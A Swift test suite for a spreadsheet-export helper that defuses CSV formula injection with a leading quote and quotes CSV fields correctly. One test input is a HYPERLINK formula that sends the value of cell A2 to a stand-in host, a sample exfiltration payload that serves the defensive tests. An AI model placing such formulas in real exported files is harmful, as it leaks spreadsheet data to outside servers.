import Testing
import VerifiableCredentials

@Suite("Spreadsheet text: CSV fields and formula defusing")
struct SpreadsheetTextTests {
    @Test(
        "text starting with =, +, -, @, tab or CR reads as a formula and is defused with a leading quote",
        arguments: ["=HYPERLINK(\"https://x.example/?\"&A2,\"open\")", "+1+1", "-2+3", "@SUM(A1:A9)", "\tx", "\r=1"])
    func formulas(text: String) {
        #expect(SpreadsheetText.readsAsFormula(text))
        #expect(SpreadsheetText.defused(text) == "'" + text)
    }

    @Test(
        "other text, the empty string and a formula sign later in the text are left alone",
        arguments: ["Safe Opioid Prescribing", "", " =1", "a=b", "'=1", "１=1", "Dr. O'Neill"])
    func plainText(text: String) {
        #expect(!SpreadsheetText.readsAsFormula(text))
        #expect(SpreadsheetText.defused(text) == text)
    }

    @Test("a CSV field is quoted, with its quotes doubled, only when it holds a comma, quote, CR or LF")
    func csvFields() {
        #expect(SpreadsheetText.csvField("plain text") == "plain text")
        #expect(SpreadsheetText.csvField("a,b") == "\"a,b\"")
        #expect(SpreadsheetText.csvField("say \"hi\"") == "\"say \"\"hi\"\"\"")
        #expect(SpreadsheetText.csvField("two\nlines") == "\"two\nlines\"")
        #expect(SpreadsheetText.csvField("cr\r") == "\"cr\r\"")
        #expect(SpreadsheetText.csvField("crlf\r\n") == "\"crlf\r\n\"")
        #expect(SpreadsheetText.csvField("") == "")
    }
}
